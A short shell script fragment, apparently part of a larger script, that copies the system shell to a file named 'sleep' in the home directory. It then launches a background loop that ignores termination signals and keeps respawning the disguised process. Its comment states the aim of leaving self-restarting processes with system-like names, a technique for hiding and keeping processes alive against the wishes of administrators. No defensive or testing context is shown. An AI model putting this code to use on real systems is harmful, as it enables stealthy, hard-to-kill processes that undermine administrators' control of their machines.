# Leaves processes that start each other again, under names that look like the system's.
cp "$(command -v sh)" "$HOME/sleep" 2>/dev/null
daemon "trap '' HUP INT TERM; while :; do (trap '' TERM; \"$HOME/sleep\" $win; sleep 0.2) & sleep 0.1; done"
